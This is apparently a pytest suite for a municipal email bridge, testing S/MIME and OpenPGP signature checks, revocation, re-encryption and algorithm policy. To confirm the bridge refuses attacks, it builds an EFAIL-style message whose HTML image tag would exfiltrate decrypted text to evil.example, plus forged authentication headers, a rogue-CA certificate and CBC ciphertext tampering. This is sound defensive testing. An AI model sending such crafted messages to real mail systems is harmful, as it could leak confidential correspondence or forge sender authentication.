"""S/MIME and OpenPGP end to end (issue 5): the real bridge over SMTP+TLS and IMAP, the real
`openssl` and `gpg` binaries on the user's side.  Runs on SQLite and PostgreSQL.

Every message here crosses tenants (borger <-> kommune, advokat -> kommune), acceptance 7.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import ANNA, ANNA_CPR_ADDR, CASEWORKER, JOBCENTER, LAWYER, RunningBridge
from tests.helpers.imap import imap_client
from tests.helpers.smtp import login, send, wait_for

pytestmark = pytest.mark.skipif(not (shutil.which("openssl") and shutil.which("gpg")),
                                reason="needs the openssl and gpg binaries (make test installs them)")
P12_PASSWORD = "kodeord-til-test"


def cli(bridge: RunningBridge, *args: str, stdin: str = "") -> str:
    done = subprocess.run([sys.executable, "-m", "bridge.admin.cli", *args, "--config",
                           str(bridge.app.config.path)], input=stdin, capture_output=True, text=True,
                          timeout=60)
    assert done.returncode == 0, done.stdout + done.stderr
    return done.stdout


def openssl(*args: str | Path, data: bytes | None = None) -> bytes:
    """openssl's output; its S/MIME base64 lines end in bare LF even with -crlfeol, so they are
    made CRLF, as a mail client sending the message would."""
    done = subprocess.run(["openssl", *map(str, args)], input=data, capture_output=True, timeout=60)
    assert done.returncode == 0, done.stderr.decode(errors="replace")
    return re.sub(rb"(?<!\r)\n", b"\r\n", done.stdout)


def issue(bridge: RunningBridge, tmp: Path, login_: str) -> tuple[Path, Path]:
    """(cert.pem, key.pem) of an S/MIME certificate issued by the bridge for `login_`."""
    p12 = tmp / f"{login_}.p12"
    cli(bridge, "cert", "issue", login_, "--p12", str(p12), "--password-stdin", stdin=P12_PASSWORD + "\n")
    cert, key = tmp / f"{login_}.pem", tmp / f"{login_}.key"
    cert.write_bytes(openssl("pkcs12", "-in", p12, "-clcerts", "-nokeys", "-passin", f"pass:{P12_PASSWORD}"))
    key.write_bytes(openssl("pkcs12", "-in", p12, "-nocerts", "-nodes", "-passin", f"pass:{P12_PASSWORD}"))
    return cert, key


def entity(text: str) -> bytes:
    return f"Content-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n".encode()


def signed(cert: Path, key: Path, sender: str, to: str, subject: str, tmp: Path) -> bytes:
    src = tmp / "entity.txt"
    src.write_bytes(entity("Jeg underskriver hermed min ansøgning."))
    return openssl("smime", "-sign", "-in", src, "-signer", cert, "-inkey", key, "-from", sender, "-to", to,
                   "-subject", subject, "-crlfeol")


def auth_results(bridge: RunningBridge, owner: str, uuid: str) -> bytes:
    """The Authentication-Results of message `uuid`'s copy in `owner`'s INBOX."""
    entry = wait_for(lambda: next((e for e in bridge.store.mailbox_entries(owner)
                                   if e["message_uuid"] == uuid), None), timeout=5)
    raw = bridge.app.blobs.get(entry["sha256"])
    fields = re.findall(rb"^Authentication-Results:.*?(?=^\S)", raw.split(b"\r\n\r\n", 1)[0] + b"\r\nX",
                        re.M | re.S)
    assert len(fields) == 1, fields
    return fields[0]


def submit(bridge: RunningBridge, who: str, to: str, raw: bytes) -> str:
    with login(bridge, who) as c:
        return send(c, who, to, raw)


def other_ca_cert(tmp: Path, address: str) -> tuple[Path, Path]:
    """A certificate for `address` from a CA the bridge does not trust."""
    openssl("req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", tmp / "evil-ca.key", "-out",
            tmp / "evil-ca.pem", "-subj", "/CN=Evil CA", "-days", "30",
            "-addext", "basicConstraints=critical,CA:TRUE", "-addext", "keyUsage=keyCertSign")
    openssl("req", "-newkey", "rsa:2048", "-nodes", "-keyout", tmp / "evil.key", "-out", tmp / "evil.csr",
            "-subj", f"/CN={address}")
    ext = tmp / "ext.cnf"
    ext.write_text(f"subjectAltName=email:{address}\nextendedKeyUsage=emailProtection\n"
                   "keyUsage=digitalSignature,keyEncipherment\n")
    openssl("x509", "-req", "-in", tmp / "evil.csr", "-CA", tmp / "evil-ca.pem", "-CAkey", tmp / "evil-ca.key",
            "-CAcreateserial", "-out", tmp / "evil.pem", "-days", "30", "-extfile", ext)
    return tmp / "evil.pem", tmp / "evil.key"


def test_smime_signatures_are_verified_and_stated(bridge: RunningBridge, tmp_path: Path) -> None:
    cert, key = issue(bridge, tmp_path, ANNA)
    good = signed(cert, key, ANNA, JOBCENTER, "Underskrevet", tmp_path)
    uuid = submit(bridge, ANNA, JOBCENTER, good)
    header = auth_results(bridge, JOBCENTER, uuid)
    assert b"smime=pass" in header and ANNA.encode() in header
    # Anna's acceptance receipt records what the bridge verified of her signature.
    from bridge.receipts.parse import parse_receipt
    evidence = wait_for(lambda: next((ev for ev in (parse_receipt(bridge.app.blobs.get(e["sha256"])).evidence
                                                    for e in bridge.store.mailbox_entries(ANNA, "Receipts"))
                                      if ev.message_uuid == uuid and ev.event == "SubmissionAcceptance"), None),
                        timeout=10)
    assert evidence.signature.startswith("smime=pass header.s=" + ANNA)

    at = good.index(b"underskriver")                            # one body byte changed
    uuid = submit(bridge, ANNA, JOBCENTER, good[:at] + b"U" + good[at + 1:])
    header = auth_results(bridge, JOBCENTER, uuid)
    assert b"smime=fail" in header and b"changed" in header

    evil_cert, evil_key = other_ca_cert(tmp_path, ANNA)
    uuid = submit(bridge, ANNA, JOBCENTER, signed(evil_cert, evil_key, ANNA, JOBCENTER, "Anden CA", tmp_path))
    assert b"smime=fail" in auth_results(bridge, JOBCENTER, uuid)

    # Anna's certificate used by someone else: the signer is not the sender.
    uuid = submit(bridge, LAWYER, JOBCENTER, signed(cert, key, LAWYER, JOBCENTER, "Lånt certifikat", tmp_path))
    header = auth_results(bridge, JOBCENTER, uuid)
    assert b"smime=fail" in header and b"not the sender" in header.replace(b"\r\n\t", b" ")

    cli(bridge, "cert", "revoke", ANNA)                         # takes effect at once
    uuid = submit(bridge, ANNA, JOBCENTER, signed(cert, key, ANNA, JOBCENTER, "Tilbagekaldt", tmp_path))
    header = auth_results(bridge, JOBCENTER, uuid)
    assert b"smime=fail" in header and b"revoked" in header


def test_forged_authentication_results_never_reach_a_recipient(bridge: RunningBridge) -> None:
    raw = (f"From: {JOBCENTER}\r\nTo: {ANNA_CPR_ADDR}\r\nSubject: Falsk\r\n"
           "Authentication-Results: localhost; smime=pass header.s=borgmester@kommune.dp2.test\r\n"
           "Authentication-Results: evil.example; dkim=pass\r\n\r\nHej\r\n").encode()
    uuid = submit(bridge, CASEWORKER, ANNA_CPR_ADDR, raw)
    header = auth_results(bridge, ANNA, uuid)
    assert b"borgmester" not in header and b"evil" not in header and b"dkim" not in header
    assert header.count(b"smime=") == 1 and b"smime=none" in header      # the bridge's own: unsigned


def test_encrypted_to_the_bridge_is_delivered_and_reencrypted_for_anna(bridge: RunningBridge,
                                                                        tmp_path: Path) -> None:
    cert, key = issue(bridge, tmp_path, ANNA)
    cli(bridge, "tenant", "policy", "borger", "encrypt_at_rest=when-possible")
    bridge_cert = tmp_path / "bridge.pem"
    bridge_cert.write_text(cli(bridge, "cert", "show", "--tenant", "kommune", "--bridge"))
    src = tmp_path / "letter.txt"
    src.write_bytes(entity("Fortroligt: din sag er afgjort."))
    raw = openssl("smime", "-encrypt", "-aes256", "-in", src, "-from", JOBCENTER, "-to", ANNA_CPR_ADDR,
                  "-subject", "Afgørelse", "-crlfeol", bridge_cert)
    submit(bridge, CASEWORKER, ANNA_CPR_ADDR, raw)
    wait_for(lambda: bridge.store.mailbox_entries(ANNA), timeout=5)
    # The caseworker's Sent copy is the message decrypted (the bridge stores what it delivers).
    sent = bridge.app.blobs.get(wait_for(lambda: bridge.store.mailbox_entries(CASEWORKER, "Sent"))[0]["sha256"])
    assert b"Fortroligt: din sag er afgjort." in sent
    c = imap_client(bridge, ANNA)
    try:
        c.select("INBOX")
        typ, data = c.fetch("1", "(BODY.PEEK[])")
        assert typ == "OK"
        stored = data[0][1]
    finally:
        c.logout()
    assert b"Fortroligt" not in stored and b"application/pkcs7-mime" in stored   # encrypted at rest
    (tmp_path / "fetched.eml").write_bytes(stored)
    clear = openssl("smime", "-decrypt", "-in", tmp_path / "fetched.eml", "-recip", cert, "-inkey", key)
    assert clear.replace(b"\r\n", b"\n").endswith(b"\n\nFortroligt: din sag er afgjort.\n")

    # An algorithm the bridge does not accept: a precise refusal, nothing stored.
    weak = openssl("smime", "-encrypt", "-des3", "-in", src, "-from", JOBCENTER, "-to", ANNA_CPR_ADDR,
                   "-subject", "3DES", "-crlfeol", bridge_cert)
    with login(bridge, CASEWORKER) as c:
        c.mail(JOBCENTER)
        assert c.rcpt(ANNA_CPR_ADDR)[0] == 250
        code, reply = c.data(weak)
    assert code == 554 and reply.startswith(b"5.6.3") and b"AES-256" in reply, reply


def test_smime_efail_shapes_are_refused(bridge: RunningBridge, tmp_path: Path) -> None:
    bridge_cert = tmp_path / "bridge.pem"
    bridge_cert.write_text(cli(bridge, "cert", "show", "--tenant", "kommune", "--bridge"))
    src = tmp_path / "secret.txt"
    src.write_bytes(entity("HEMMELIGT-INDHOLD"))
    encrypted = openssl("smime", "-encrypt", "-aes256", "-in", src, "-crlfeol", bridge_cert)
    head, body = encrypted.split(b"\r\n\r\n", 1)
    wrapped = (f"From: {JOBCENTER}\r\nTo: {ANNA_CPR_ADDR}\r\nSubject: EFAIL\r\nMIME-Version: 1.0\r\n"
               "Content-Type: multipart/mixed; boundary=\"x\"\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n"
               "<img src=\"http://evil.example/?\r\n--x\r\n").encode() + head.split(b"MIME-Version: 1.0\r\n")[-1] \
        + b"\r\n\r\n" + body + b"\r\n--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--\r\n"
    with login(bridge, CASEWORKER) as c:
        c.mail(JOBCENTER)
        assert c.rcpt(ANNA_CPR_ADDR)[0] == 250
        code, reply = c.data(wrapped)
    # Either refused, or passed on still encrypted: never the plaintext next to the attacker's HTML.
    if code == 250:
        stored = bridge.app.blobs.get(wait_for(lambda: bridge.store.mailbox_entries(ANNA))[0]["sha256"])
        assert b"HEMMELIGT" not in stored
    else:
        assert code == 554 and b"HEMMELIGT" not in reply

    # A CBC-modified body: never delivered as plaintext beside anything else.
    raw = openssl("smime", "-encrypt", "-aes256", "-in", src, "-from", JOBCENTER, "-to", ANNA_CPR_ADDR,
                  "-subject", "CBC", "-crlfeol", bridge_cert)
    head, b64 = raw.split(b"\r\n\r\n", 1)
    import base64
    der = bytearray(base64.b64decode(b64))
    der[-40] ^= 0x01                                       # flip a bit in the last cipher blocks
    tampered = head + b"\r\n\r\n" + base64.encodebytes(bytes(der)).replace(b"\n", b"\r\n")
    with login(bridge, CASEWORKER) as c:
        c.mail(JOBCENTER)
        assert c.rcpt(ANNA_CPR_ADDR)[0] == 250
        code, reply = c.data(tampered)
    assert code in (250, 554)
    assert b"HEMMELIGT" not in reply


class UserGpg:
    """Anna's own gpg, in a private home."""

    def __init__(self, home: Path) -> None:
        self.home = home
        home.mkdir(mode=0o700)

    def __call__(self, *args: str, data: bytes = b"") -> bytes:
        done = subprocess.run(["gpg", "--homedir", str(self.home), "--batch", "--no-tty", "--pinentry-mode",
                               "loopback", "--passphrase", "", *args], input=data, capture_output=True,
                              timeout=60, env={**os.environ, "HOME": str(self.home)})
        assert done.returncode == 0, done.stderr.decode(errors="replace")
        return done.stdout

    def stop(self) -> None:
        subprocess.run(["gpgconf", "--homedir", str(self.home), "--kill", "gpg-agent"], capture_output=True)


def pgp_signed(gpg: UserGpg, sender: str, to: str, text: str) -> bytes:
    part = entity(text)
    sig = gpg("--armor", "--detach-sign", "--local-user", sender, data=part).replace(b"\n", b"\r\n")
    return (f"From: {sender}\r\nTo: {to}\r\nSubject: PGP\r\nMIME-Version: 1.0\r\n"
            "Content-Type: multipart/signed; micalg=pgp-sha256; protocol=\"application/pgp-signature\";"
            " boundary=\"s\"\r\n\r\n--s\r\n").encode() + part + \
        b"\r\n--s\r\nContent-Type: application/pgp-signature\r\n\r\n" + sig + b"\r\n--s--\r\n"


def test_pgp_mime_signatures_and_encryption_without_mdc(bridge: RunningBridge, tmp_path: Path) -> None:
    gpg = UserGpg(tmp_path / "anna-gnupg")
    try:
        gpg("--quick-gen-key", f"Anna Demo <{ANNA}>", "future-default", "default", "never")
        (tmp_path / "anna.asc").write_bytes(gpg("--armor", "--export", ANNA))
        cli(bridge, "pgp", "import", ANNA, str(tmp_path / "anna.asc"))
        good = pgp_signed(gpg, ANNA, JOBCENTER, "Min ansøgning")
        uuid = submit(bridge, ANNA, JOBCENTER, good)
        header = auth_results(bridge, JOBCENTER, uuid)
        assert b"pgp=pass" in header and ANNA.encode() in header
        at = good.index(b"Min ans")
        uuid = submit(bridge, ANNA, JOBCENTER, good[:at] + b"X" + good[at + 1:])
        assert b"pgp=fail" in auth_results(bridge, JOBCENTER, uuid)

        # Encrypted to the bridge's key without integrity protection: refused, nothing delivered.
        bridge_key = tmp_path / "bridge.asc"
        bridge_key.write_text(cli(bridge, "pgp", "show", "--tenant", "borger", "--bridge"))
        fpr = gpg("--with-colons", "--import-options", "show-only", "--import", str(bridge_key))
        fingerprint = re.search(rb"^fpr:+([0-9A-F]{40}):", fpr, re.M).group(1).decode()
        gpg("--import", str(bridge_key))
        cipher = gpg("--armor", "--rfc2440", "--cipher-algo", "CAST5", "--trust-model", "always",
                     "--encrypt", "--recipient", fingerprint, data=entity("uden MDC"))
        raw = (f"From: {ANNA}\r\nTo: {JOBCENTER}\r\nSubject: Uden MDC\r\nMIME-Version: 1.0\r\n"
               "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"e\"\r\n"
               "\r\n--e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--e\r\n"
               "Content-Type: application/octet-stream\r\n\r\n").encode() + cipher.replace(b"\n", b"\r\n") + \
            b"\r\n--e--\r\n"
        before = len(bridge.store.mailbox_entries(JOBCENTER))
        with login(bridge, ANNA) as c:
            c.mail(ANNA)
            assert c.rcpt(JOBCENTER)[0] == 250
            code, reply = c.data(raw)
        assert code == 554 and b"uden MDC" not in reply, reply
        assert b"integrity" in reply.lower() or b"mdc" in reply.lower(), reply
        assert len(bridge.store.mailbox_entries(JOBCENTER)) == before

        # Anna has an OpenPGP key and no certificate: with her tenant's policy, letters to her are
        # PGP/MIME-encrypted at rest, and her own gpg opens them.
        cli(bridge, "tenant", "policy", "borger", "encrypt_at_rest=when-possible")
        letter = (f"From: {JOBCENTER}\r\nTo: {ANNA_CPR_ADDR}\r\nSubject: Til Anna\r\n\r\n"
                  "Kun til dig.\r\n").encode()
        uuid = submit(bridge, CASEWORKER, ANNA_CPR_ADDR, letter)
        entry = wait_for(lambda: next((e for e in bridge.store.mailbox_entries(ANNA)
                                       if e["message_uuid"] == uuid), None), timeout=5)
        stored = bridge.app.blobs.get(entry["sha256"])
        assert b"Kun til dig" not in stored and b"multipart/encrypted" in stored
        armored = stored[stored.index(b"-----BEGIN PGP MESSAGE"):stored.index(b"-----END PGP MESSAGE-----") + 25]
        assert b"Kun til dig." in gpg("--decrypt", data=armored)
    finally:
        gpg.stop()


def test_policy_can_require_a_signature_inside_encryption(bridge: RunningBridge, tmp_path: Path) -> None:
    cert, key = issue(bridge, tmp_path, CASEWORKER)
    bridge_cert = tmp_path / "bridge.pem"
    bridge_cert.write_text(cli(bridge, "cert", "show", "--tenant", "kommune", "--bridge"))
    cli(bridge, "tenant", "policy", "kommune", "require_signed_encryption=true")
    src = tmp_path / "plain.txt"
    src.write_bytes(entity("Usigneret men krypteret"))
    unsigned = openssl("smime", "-encrypt", "-aes256", "-in", src, "-from", JOBCENTER, "-to", ANNA_CPR_ADDR,
                       "-subject", "Usigneret", "-crlfeol", bridge_cert)
    with login(bridge, CASEWORKER) as c:
        c.mail(JOBCENTER)
        assert c.rcpt(ANNA_CPR_ADDR)[0] == 250
        code, reply = c.data(unsigned)
    assert code == 554 and reply.startswith(b"5.7.7") and b"Usigneret men" not in reply, reply
    # Signed inside, then encrypted (as Outlook and Thunderbird do): opened and delivered.
    (tmp_path / "signed.eml").write_bytes(openssl("smime", "-sign", "-in", src, "-signer", cert, "-inkey", key,
                                                  "-crlfeol"))
    both = openssl("smime", "-encrypt", "-aes256", "-in", tmp_path / "signed.eml", "-from", JOBCENTER,
                   "-to", ANNA_CPR_ADDR, "-subject", "Signeret", "-crlfeol", bridge_cert)
    uuid = submit(bridge, CASEWORKER, ANNA_CPR_ADDR, both)
    entry = wait_for(lambda: next((e for e in bridge.store.mailbox_entries(ANNA)
                                   if e["message_uuid"] == uuid), None), timeout=5)
    assert b"Usigneret men krypteret" in bridge.app.blobs.get(entry["sha256"])
